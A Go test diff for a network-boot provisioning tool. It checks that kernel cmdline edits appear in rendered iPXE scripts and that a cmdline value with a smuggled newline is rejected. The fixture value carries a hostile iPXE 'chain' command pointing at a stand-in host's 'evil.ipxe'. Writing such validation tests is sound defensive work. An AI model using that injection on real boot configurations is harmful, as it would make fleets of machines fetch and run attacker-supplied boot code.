@@ -216,3 +216,38 @@ func TestDiffServerAnnotation(t *testing.T) {
 		t.Errorf("--server: %s\n%s", errs, out)
 	}
 }
+
+// A MicroOS cmdline edit shows as the kernel line of every node's iPXE
+// script; a newline smuggled into it (a second iPXE command) stops the diff
+// with the positioned error of the head revision.
+func TestDiffCmdline(t *testing.T) {
+	dir := gitRepo(t)
+	git(t, dir, "checkout", "-q", "-b", "console")
+	edit(t, dir, "microos/default.yaml", "console=tty0 quiet\n", "console=tty0 quiet loglevel=3\n")
+	git(t, dir, "commit", "-q", "-am", "loglevel")
+	code, out, errs := bootops(t, nil, "diff", dir, "--base", "main", "--head", "console", "--artifacts", "--detailed-exitcode")
+	if code != 2 {
+		t.Fatalf("exit %d: %s", code, errs)
+	}
+	for _, w := range []string{
+		"~ microOS default  cmdline: console=ttyS0,115200 console=tty0 quiet → console=ttyS0,115200 console=tty0 quiet loglevel=3",
+		"microOS default: the rendered files of warehouse/rack1-01, the first of the 20 nodes it reaches",
+		"/warehouse/rack1-01/ipxe",
+		"-kernel http://", " console=ttyS0,115200 console=tty0 quiet\n",
+		"+kernel http://", " console=ttyS0,115200 console=tty0 quiet loglevel=3\n",
+	} {
+		if !strings.Contains(out, w) {
+			t.Errorf("--artifacts lacks %q:\n%s", w, out)
+		}
+	}
+
+	git(t, dir, "checkout", "-q", "-b", "smuggle")
+	edit(t, dir, "microos/default.yaml", "cmdline: console=ttyS0,115200 console=tty0 quiet loglevel=3\n",
+		"cmdline: \"console=ttyS0,115200 quiet\\nchain http://198.51.100.7/evil.ipxe\"\n")
+	git(t, dir, "commit", "-q", "-am", "smuggle")
+	code, out, errs = bootops(t, nil, "diff", dir, "--base", "console", "--head", "smuggle", "--artifacts")
+	want := "head " + git(t, dir, "rev-parse", "--short=7", "HEAD") + ": microos/default.yaml:11:1: cmdline: contains a newline (\\n): iPXE would run the rest as a command of its own"
+	if code != 1 || !strings.Contains(errs, want) || strings.Contains(out, "evil") {
+		t.Errorf("smuggled newline: exit %d, want 1 and %q:\n%s\n%s", code, want, errs, out)
+	}
+}
